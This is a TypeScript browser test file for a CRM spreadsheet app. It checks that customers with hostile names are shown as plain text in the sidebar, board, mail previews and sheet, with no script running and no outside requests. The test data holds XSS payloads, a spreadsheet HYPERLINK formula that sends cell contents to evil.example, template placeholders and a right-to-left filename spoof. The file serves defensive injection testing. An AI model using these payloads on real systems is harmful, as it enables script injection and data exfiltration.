import type { Frame, Locator, Page } from 'playwright-core';
import { beforeAll, describe, expect, test } from 'vitest';
import { builtProject } from '../../demo/open.ts';
import type { Workbench } from '../../workbench/control.ts';
import { answerOf, aShop, deleteFigures, rowsOf } from '../contract/usecases/aShop.ts';
import { mailAtAnyHour } from '../contract/usecases/mailAtAnyHour.ts';
import { aDialog, aSidebar } from './aDialog.ts';
import { cutOff } from './cutOff.ts';
import { openPage } from './openPage.ts';
import { pictures } from './picture.ts';

const names = [
  '<img src="https://evil.example/x" onerror="window.hacked=1">',
  '"><script>window.hacked=1</script><svg onload="window.hacked=1">',
  '=HYPERLINK("https://evil.example/?q="&A2,"Click")',
  '{{{customer.email}}} {name} %s $&',
  '\u202Egpj.eciovni \u200Bevil',
  'W'.repeat(300),
] as const;

/** Those whose mail is looked at: markup, places, length. */
const looked = [0, 3, 5];

let shop: Workbench;
const ids: string[] = [];

/** All of them call today, have an opportunity, and are written to. */
beforeAll(async () => {
  shop = await aShop({ project: await builtProject() });
  deleteFigures(shop);
  mailAtAnyHour(shop, { seller: 'Fine Machines' });
  shop.edit({
    type: 'set',
    sheet: 'Team',
    a1: 'A2',
    values: [['T-1', 'Olivia Owner', 'owner@example.com', 'Owner']],
  });
  for (const [at, name] of names.entries()) {
    const values = { name, status: 'lead', owner: 'Olivia Owner', email: `h${at}@example.com` };
    const { id } = answerOf(shop, 'addCustomer', { values, twin: false });
    ids.push(id);
  }
  answerOf(shop, 'seedSequences');
  const { templates, sequences } = answerOf(shop, 'listSequences');
  const called = (one: { readonly name: string }): boolean => one.name === 'Welcome';
  const { id, subject, body } = templates.filter(called)[0];
  answerOf(shop, 'saveMailTemplate', {
    id,
    values: { subject: 'For {{customer.name}}', body: 'Dear {{customer.name}},\n\nwelcome.' },
    seen: { subject, body },
  });
  const { running: _, waiting: __, note: ___, steps, ...row } = sequences.filter(called)[0];
  const kept = steps.map(({ sentence: _s, position: _p, ...step }: Record<string, unknown>) => step);
  answerOf(shop, 'saveSequence', { ...row, steps: kept, on: true });
  shop.run('hourly');
  // A deal ends a sequence.
  for (const [at, customer] of ids.entries()) {
    const due = { subject: `Call ${at}`, dueOn: '2018-01-02', channel: 'call', owner: 'Olivia Owner' };
    answerOf(shop, 'setFollowUp', { customer, values: due });
    const deal = { value: 100, owner: 'Olivia Owner', expectedOn: '2018-02-15' };
    answerOf(shop, 'saveOpportunity', { id: null, customer, values: deal, seen: {} });
  }
}, 120_000);

/** What a page does that none should: runs what a name says, opens a window, loads from elsewhere. */
const watched = (page: Page): { readonly calm: (frames?: readonly Frame[]) => Promise<void> } => {
  const seen: string[] = [];
  const home = new URL(page.url()).origin;
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => seen.push(`window: ${popup.url()}`));
  page.on('request', (request) => {
    const url = request.url();
    if (!/^(data|blob|about):/.test(url) && !url.startsWith(home)) seen.push(`request: ${url}`);
  });
  return {
    calm: async () => {
      for (const frame of page.frames())
        expect(await frame.evaluate(() => Reflect.get(globalThis, 'hacked')), frame.url()).toBeUndefined();
      expect(seen).toEqual([]);
    },
  };
};

/** The names stand there as they are, in this order or another. */
const expectShown = async (where: Locator, say: (name: string) => string = (name) => name): Promise<void> => {
  await expect.poll(() => where.count()).toBe(names.length);
  expect((await where.allTextContents()).sort()).toEqual(names.map(say).sort());
};

/** Nothing is cut off without its title, and the page scrolls in one direction only. */
const expectWhole = async (page: Page): Promise<void> => {
  expect(await cutOff(page)).toEqual([]);
  expect(
    await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth),
  ).toBeLessThanOrEqual(0);
};

/** A subject is cut to 200 characters. */
const asSubject = (name: string): string => `For ${name}`.slice(0, 200);

const openSidebar = aSidebar('Sidebar', { wait: 30_000 });
const openBoard = aDialog('Board', { wait: 30_000 });
const openSequences = aDialog('Sequences', { wait: 30_000 });
const picture = pictures('hostile-');

describe('Customers with hostile names (R15)', () => {
  test('are kept under the names that they have', () => {
    expect(rowsOf(shop, 'Customers').map(({ Customer }) => Customer)).toEqual(names);
  });

  test('stand in the sidebar, 300 pixels wide: due today, found, and each on its card', async () => {
    const page = await openSidebar(shop, { who: 'owner' });
    const { calm } = watched(page);
    await expectShown(page.locator('.due button.link'));
    await expectWhole(page);
    await picture(page, 'today');
    await page.locator('#tab-find').click();
    await expectShown(page.locator('.found .subject'));
    await expectWhole(page);
    await picture(page, 'find');
    for (const [at, name] of names.entries()) {
      await page.locator('#tab-find').click();
      await page.locator('.found button').filter({ hasText: name }).first().click();
      await page.locator('.card h2').filter({ hasText: name }).waitFor();
      expect(await page.locator('.card h2').textContent()).toBe(name);
      await expectWhole(page);
      await picture(page, `card-${at}`);
    }
    await calm();
  });

  test('stand on the board, and in its sentences', async () => {
    const page = await openBoard(shop, { who: 'owner' });
    const { calm } = watched(page);
    await expectShown(page.locator('.deal button.link'));
    await expectWhole(page);
    await picture(page, 'board');
    const [name] = names;
    await page.locator('.deal').filter({ hasText: name }).getByRole('combobox').selectOption('Engaging');
    await page
      .getByRole('status')
      .filter({ hasText: `${name} stands in Engaging now.` })
      .waitFor();
    await expectWhole(page);
    await calm();
  });

  test('stand in the mail as it would go out', async () => {
    const page = await openSequences(shop, { who: 'owner' });
    const { calm } = watched(page);
    await page.getByRole('tab', { name: 'Templates' }).click();
    await page.getByRole('button', { name: 'Welcome: English' }).click();
    for (const at of looked) {
      const name = names[at] ?? '';
      await page.getByLabel('As it would go to').fill(name.slice(0, 40));
      await page.getByRole('list', { name: 'Found customers' }).getByRole('button').first().click();
      const frame = page.frameLocator('iframe');
      await frame.getByText(name).first().waitFor();
      await picture(page, `preview-${at}`);
      await expectWhole(page);
    }
    await calm();
  });

  test('stand in the mail that went, and in the sheet', async () => {
    expect(shop.world.mailbox.map(({ subject }) => subject).sort()).toEqual(names.map(asSubject).sort());
    const open = await openPage(shop);
    const { page } = open;
    const { calm } = watched(page);
    for (const [at, name] of names.entries()) expect(await open.cell('Customers', `B${at + 2}`)).toBe(name);
    await page.getByRole('button', { name: /Mailbox/ }).click();
    for (const at of looked) {
      const name = names[at] ?? '';
      await page.locator('.mail-list button', { hasText: `h${at}@example.com` }).click();
      const letter = page.frameLocator('.letter-html');
      await letter.getByText(name).first().waitFor();
      expect(await page.locator('.letter h3').textContent()).toBe(asSubject(name));
      for (const box of [page.locator('.letter h3'), letter.locator('body')])
        expect(await box.evaluate((one) => one.scrollWidth - one.clientWidth)).toBeLessThanOrEqual(0);
      await picture(page, `mail-${at}`);
      await page.getByRole('button', { name: 'Back' }).click();
    }
    await calm();
    await open.close();
  });
});
